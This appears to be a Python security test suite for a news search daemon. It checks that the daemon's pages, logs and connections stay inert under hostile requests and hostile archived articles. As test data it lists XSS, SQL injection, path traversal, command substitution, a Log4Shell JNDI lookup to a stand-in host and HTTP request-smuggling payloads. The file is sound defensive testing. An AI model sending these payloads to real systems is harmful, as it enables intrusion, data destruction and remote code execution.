#!/usr/bin/env python3
"""Requests and articles that mean harm find the daemon's pages, log and connections unharmed."""

import json
import re
import urllib.parse

import support
from support import Daemon, ProgramTest, sample_index
from web import Judge, ask, expect_problem, expect_security, raw, search

contexts = ["{}", "'{}", '"{}', "<b>{}</b>", '"{}"', "title:{}", "</title>{}", "-->{}", "]]>{}",
            "&lt;{}"]
active = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>',
    "javascript:alert(1)", "' autofocus onfocus=alert(1) x='", '" onmouseover="alert(1)',
    "<iframe src=//evil.example>", "<a href=javascript:alert(1)>x</a>", "{{constructor}}{{> form}}",
    "<base href=//evil.example>",
]
payloads = [context.format(text) for context in contexts for text in active] + [
    "\r\nX-Injected: yes", "\r\n\r\n<html>", "\n2026-01-01T00:00:00Z error forged", "\x1b[2J", "\0",
    "%00", "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "'; DROP TABLE articles; --",
    "$(id)", "`id`", "${jndi:ldap://evil.example/x}", "\u202e\u2066", "\ud7ff\U0010ffff",
    "a" * 3000, "(" * 2000, '"' * 2001, "NOT " * 900, "a OR " * 900, "*" * 2000, "u* " * 900,
    "title:" * 600, "date:" + "9" * 3000, "-" * 3000,
]
urls = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)",
        "java\tscript:alert(1)", "data:text/html,<script>", "vbscript:x", "//evil.example",
        "\\\\evil.example", "/\\evil.example", "https:evil.example",
        "http://user:password@evil.example/", 'https://x.example/"onclick="alert(1)',
        "https://x.example/<script>", "\x01javascript:alert(1)", "file:///etc/passwd", "https://"]


class HostileRequests(ProgramTest):
    @classmethod
    def setUpClass(cls):
        cls.daemon = cls.enterClassContext(Daemon(sample_index()))
        cls.port = cls.daemon.port

    def expect_inert(self, answer):
        self.assertLess(answer.status, 500, answer.body)
        expect_security(self, answer)
        self.assertNotIn("x-injected", answer.headers)
        if answer.headers["content-type"].startswith("text/html"):
            self.assertEqual(Judge(answer.text()).faults, [])
        else:
            answer.json()

    def test_payloads_in_a_query_are_inert_everywhere(self):
        key = search(self.port, "huawei", limit=1).json()["hits"][0]["key"]
        for payload in payloads:
            value = urllib.parse.quote(payload.encode("utf-8", "surrogatepass"), safe="")
            with self.subTest(payload[:60]):
                for target in (f"/search?q={value}", f"/api/v1/search?q={value}",
                               f"/articles/{key}?q={value}",
                               f"/api/v1/articles/{key}?q={value}"):
                    if len(target) < 8000:
                        self.expect_inert(ask(self.port, target))

    def test_payloads_in_paths_and_other_parameters_are_inert(self):
        for payload in payloads:
            value = urllib.parse.quote(payload, safe="")[:2000]
            with self.subTest(payload[:60]):
                for target in (f"/{value}", f"/articles/{value}", f"/api/v1/articles/{value}",
                               f"/assets/{value}", f"/entities/{value}",
                               f"/api/v1/entities/{value}", f"/entities?q={value}&kind=org",
                               f"/api/v1/entities?q={value}&kind={value}",
                               f"/api/v1/{value}",
                               f"/search?q=x&source={value}&lang={value}&from={value}",
                               f"/search?q=x&sort={value}&limit={value}",
                               f"/search?{value}={value}",
                               f"/api/v1/search?{value}=1", f"/api/v1/search?from={value}"):
                    self.expect_inert(ask(self.port, target))

    def test_the_log_has_one_line_an_event_whatever_is_asked(self):
        with Daemon(sample_index(), "--log-queries") as daemon:
            for payload in payloads:
                value = urllib.parse.quote(payload, safe="")[:6000]
                ask(daemon.port, f"/search?q={value}")
                ask(daemon.port, f"/{value}")
            raw(daemon.port, b"GET /" + b"a" * 9000 + b" HTTP/1.1\r\nHost: localhost\r\n\r\n",
                timeout=1)
            ask(daemon.port, "/api/v1/search", "POST", "{}", Content_Encoding="gzip",
                Content_Type="application/json")
            self.assertEqual(daemon.end(), 0)
            lines = daemon.log().decode().split("\n")
        self.assertEqual(lines.pop(), "")
        for line in lines:
            self.assertRegex(line,
                             r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ (info|warning|error) "
                             r"[a-z]+( [a-z_]+=|$)")
            self.assertIsNone(support.dangerous.search(line), repr(line))
        events = [line.split(" ")[2] for line in lines]
        self.assertEqual(events.count("request"), 2 * len(payloads))
        self.assertEqual(events.count("refused"), 2, "what no handler saw is logged too")
        self.assertEqual(len(events), 2 * len(payloads) + 5)  # listening, stopping, stopped

    def test_queries_are_not_logged_unasked(self):
        ask(self.port, "/search?q=confidentialword")
        self.assertNotIn(b"confidentialword", self.daemon.log())


class Bodies(ProgramTest):
    post = b"POST /api/v1/search HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    smuggled = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n"

    @classmethod
    def setUpClass(cls):
        cls.port = cls.enterClassContext(Daemon(sample_index())).port

    def test_a_body_beyond_256_KiB_is_refused_however_it_is_sent(self):
        body = json.dumps({"q": "x" * 300_000}).encode()
        answer = ask(self.port, "/api/v1/search", "POST", body, Content_Type="application/json")
        expect_problem(self, answer, 413)
        chunks = b"".join(b"2000\r\n" + b"x" * 0x2000 + b"\r\n" for _ in range(40)) + b"0\r\n\r\n"
        received = raw(self.port, self.post + b"Transfer-Encoding: chunked\r\n\r\n" + chunks)
        self.assertTrue(received.startswith(b"HTTP/1.1 413 "), received[:200])
        small = b"14\r\n" + b'{"q":"huawei strike"}'[:20] + b"\r\n1\r\n}\r\n0\r\n\r\n"
        received = raw(self.port, self.post + b"Transfer-Encoding: chunked\r\n\r\n" + small,
                       timeout=1)
        self.assertTrue(received.startswith(b"HTTP/1.1 200 "), received[:200])

    def test_an_address_beyond_8_KiB_is_refused(self):
        answer = ask(self.port, "/api/v1/search?q=" + "a" * 9000)
        self.assertEqual(answer.status, 414)
        expect_security(self, answer)

    def test_other_media_types_and_packed_bodies_are_refused(self):
        for kind in ("application/x-www-form-urlencoded", "text/plain",
                     "multipart/form-data; boundary=x", ""):
            answer = ask(self.port, "/api/v1/search", "POST", "q=x", Content_Type=kind)
            self.assertIn(answer.status, (400, 415), kind)
        answer = ask(self.port, "/api/v1/search", "POST", b"\x1f\x8b",
                     Content_Type="application/json",
                     Content_Encoding="gzip")
        expect_problem(self, answer, 415)

    def test_no_body_is_taken_for_another_request(self):
        length = b"Content-Length: %d\r\n" % len(self.smuggled)
        heads = [
            b"GET /readyz HTTP/1.1\r\nHost: localhost\r\n" + length,
            b"HEAD /readyz HTTP/1.1\r\nHost: localhost\r\n" + length,
            b"POST /search HTTP/1.1\r\nHost: localhost\r\n" + length,
            b"DELETE /api/v1/search HTTP/1.1\r\nHost: localhost\r\n" + length,
            self.post + b"Content-Encoding: gzip\r\n" + length,
            self.post + b"Content-Length: 0\r\n" + length,
            self.post + b"Content-Length: abc\r\n",
            self.post + b"Content-Length: +0\r\n",
            self.post + length + b"Transfer-Encoding: chunked\r\n",
            self.post + b"Transfer-Encoding: identity\r\n",
            self.post + b"Transfer-Encoding: chunked, identity\r\n",
            self.post + b"Transfer-Encoding: xchunked\r\n",
        ]
        for head in heads:
            with self.subTest(head):
                received = raw(self.port, head + b"\r\n", self.smuggled)
                self.assertEqual(len(re.findall(rb"(?m)^HTTP/1\.1 \d", received)), 1,
                                 received[-300:])
                self.assertRegex(received, rb"^HTTP/1\.1 4")

    def test_what_is_no_http_is_refused_or_hung_up_on(self):
        for garbage in (b"\0\1\2\r\n\r\n", b"\r\n\r\n", b"GET\r\n\r\n", b"GET / HTTP/9.9\r\n\r\n",
                        b"\x16\x03\x01\x02",
                        b"GET / HTTP/1.1\nHost: localhost\n\n", b"A" * 100_000,
                        b"GET /%00 HTTP/1.1\r\n: x\r\n\r\n"):
            received = raw(self.port, garbage, timeout=1)
            self.assertRegex(received, rb"^(HTTP/1\.1 [234]|$)", garbage[:40])
        self.assertEqual(ask(self.port, "/healthz").status, 200)


class HostileArticles(ProgramTest):
    def test_what_an_archive_holds_is_inert_on_the_page(self):
        records = []
        for number, payload in enumerate(payloads):
            records.append({"id": f"p-{number}" + payload[:500], "title": "word " + payload,
                            "source": payload[:300],
                            "body": f"word {payload}\n\nword {payload}", "byline": [payload],
                            "lang": payload,
                            "section": payload, "standfirst": payload, "wire": payload,
                            "place": payload,
                            "extra <b>": payload, "url": urls[number % len(urls)]})
        file = self.write_articles("hostile.jsonl", *records)
        self.ok(self.indexer("add", "--allow-rejects", file))
        with Daemon(self.index) as daemon:
            hits = []
            for offset in range(0, len(records), 50):
                page = ask(daemon.port, f"/search?q=word&limit=50&offset={offset}")
                self.assertEqual(Judge(page.text()).faults, [])
                hits += search(daemon.port, "word", limit=50, offset=offset).json()["hits"]
            self.assertEqual(len(hits), len(records))
            for hit in hits:
                page = ask(daemon.port, f"/articles/{hit['key']}?q=word")
                self.assertEqual(page.status, 200)
                self.assertEqual(Judge(page.text()).faults, [], hit["id"])
                expect_security(self, page)


if __name__ == "__main__":
    support.main()
